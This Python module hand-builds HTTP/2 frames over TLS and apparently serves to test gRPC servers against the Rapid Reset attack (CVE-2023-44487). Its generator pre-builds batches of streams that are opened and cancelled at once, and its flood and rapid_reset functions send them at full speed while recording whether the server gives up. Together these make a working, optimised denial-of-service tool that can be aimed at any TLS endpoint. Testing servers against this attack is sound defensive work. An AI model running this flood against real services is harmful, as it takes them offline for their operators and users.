"""HTTP/2 by hand, over TLS: what no gRPC client would send. Facts: RFC 9113 (frames), RFC 7541 (HPACK literals)."""

from __future__ import annotations

import select
import socket
import ssl
import struct
import time
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field

import numpy as np

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 8
_BATCH = 500


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field as an HPACK literal that enters no table."""
    parts = [part.encode() for part in (name, value)]
    return b"\x00" + b"".join(_length(len(part)) + part for part in parts)


def _length(size: int) -> bytes:
    if size < 127:
        return bytes((size,))
    rest, out = size - 127, bytearray(b"\x7f")
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    out.append(rest)
    return bytes(out)


def request_headers(path: str, extra: Iterable[tuple[str, str]] = ()) -> bytes:
    """The header block of a gRPC call."""
    known = (
        (":method", "POST"),
        (":scheme", "https"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
    return b"".join(literal(name, value) for name, value in (*known, *extra))


@dataclass(frozen=True, slots=True)
class Door:
    """A TLS listener.

    Args:
        address: ``host:port``.
        trust: root certificates, PEM.
        name: name in its certificate.
        certificate: files of a client certificate and its key; None for none.
    """

    address: str
    trust: bytes
    name: str
    certificate: tuple[str, str] | None = None


@dataclass
class Connection:
    """A connection on which anything can be sent; what comes back is counted by frame type.

    Sending and receiving happen in turn on one thread, so a server that stops reading cannot block it for ever.
    """

    socket: ssl.SSLSocket
    closed: bool = False
    goaway: int | None = None
    goaway_text: str = ""
    frames: Counter[int] = field(default_factory=Counter)
    _pending: bytearray = field(default_factory=bytearray)

    @classmethod
    def open(cls, door: Door, settings: bytes = b"") -> Connection:
        """TLS, preface, settings.

        Raises:
            OSError: the server does not want us.
        """
        context = ssl.create_default_context(cadata=door.trust.decode())
        context.set_alpn_protocols(["h2"])
        if door.certificate:
            context.load_cert_chain(*door.certificate)
        host, _, port = door.address.rpartition(":")
        plain = socket.create_connection((host, int(port)), timeout=10)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        wrapped = context.wrap_socket(plain, server_hostname=door.name)
        wrapped.setblocking(False)
        made = cls(wrapped)
        made.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        until = time.monotonic() + 5
        while not made.frames[SETTINGS] and not made.closed and time.monotonic() < until:
            made.receive(0.05)
        # Without it the server takes its own limits for unknown to us and refuses streams early.
        made.send(frame(SETTINGS, ACK, 0))
        return made

    def send(self, data: bytes, until: float | None = None) -> bool:
        """Send all of it, reading what comes meanwhile; False when the connection ended or the time is over."""
        view = memoryview(data)
        while view and not self.closed:
            if until is not None and time.monotonic() > until:
                return False
            try:
                view = view[self.socket.send(view) :]
            except ssl.SSLWantWriteError:
                select.select([self.socket], [self.socket], [], 0.1)
            except OSError:
                self.closed = True
            self.receive()
        return not self.closed

    def receive(self, seconds: float = 0.0) -> None:
        """Read what is there; with `seconds`, wait for that long or until the connection ends."""
        until = time.monotonic() + seconds
        while not self.closed:
            try:
                data = self.socket.recv(262_144)
                if data:
                    self._take(data)
                    continue
                self.closed = True
            except ssl.SSLWantReadError:
                left = until - time.monotonic()
                if left <= 0:
                    return
                select.select([self.socket], [], [], min(left, 0.2))
            except OSError:
                self.closed = True

    def _take(self, data: bytes) -> None:
        self._pending += data
        start = 0
        while len(self._pending) - start >= 9:
            size = int.from_bytes(self._pending[start : start + 3], "big")
            if len(self._pending) - start < 9 + size:
                break
            kind = self._pending[start + 3]
            self.frames[kind] += 1
            if kind == GOAWAY:
                body = bytes(self._pending[start + 9 : start + 9 + size])
                self.goaway, self.goaway_text = int.from_bytes(body[4:8], "big"), body[8:].decode("ascii", "replace")
            start += 9 + size
        del self._pending[:start]

    def close(self) -> None:
        """Leave without a word."""
        self.closed = True
        self.socket.close()


def opened_and_reset(path: str, extra: Iterable[tuple[str, str]] = ()) -> Iterator[bytes]:
    """Endless batches of streams that are opened and reset at once (the shape of CVE-2023-44487).

    Built from one template, so that making them costs less than sending them.
    """
    block = request_headers(path, extra)
    one = frame(HEADERS, END_HEADERS, 0, block) + frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL))
    batch = np.tile(np.frombuffer(one, np.uint8), (_BATCH, 1))
    first = 1
    while first < 2**31 - 2 * _BATCH:
        ids = np.arange(first, first + 2 * _BATCH, 2, dtype=">u4").view(np.uint8).reshape(_BATCH, 4)
        batch[:, 5:9] = ids
        batch[:, len(block) + 14 : len(block) + 18] = ids
        yield batch.tobytes()
        first += 2 * _BATCH


def flood(connection: Connection, batches: Iterable[bytes], seconds: float) -> int:
    """Send batches for some seconds or until the connection ends; returns how many went out whole."""
    until, sent = time.monotonic() + seconds, 0
    for batch in batches:
        if not connection.send(batch, until):
            break
        sent += 1
    return sent


def rapid_reset(door: Door, path: str, seconds: float, extra: Iterable[tuple[str, str]] = ()) -> tuple[int, bool]:
    """Open and reset streams as fast as it goes; returns how many, and whether the server ended the connection."""
    connection = Connection.open(door)
    try:
        sent = flood(connection, opened_and_reset(path, extra), seconds) * _BATCH
        return sent, connection.closed
    finally:
        connection.close()
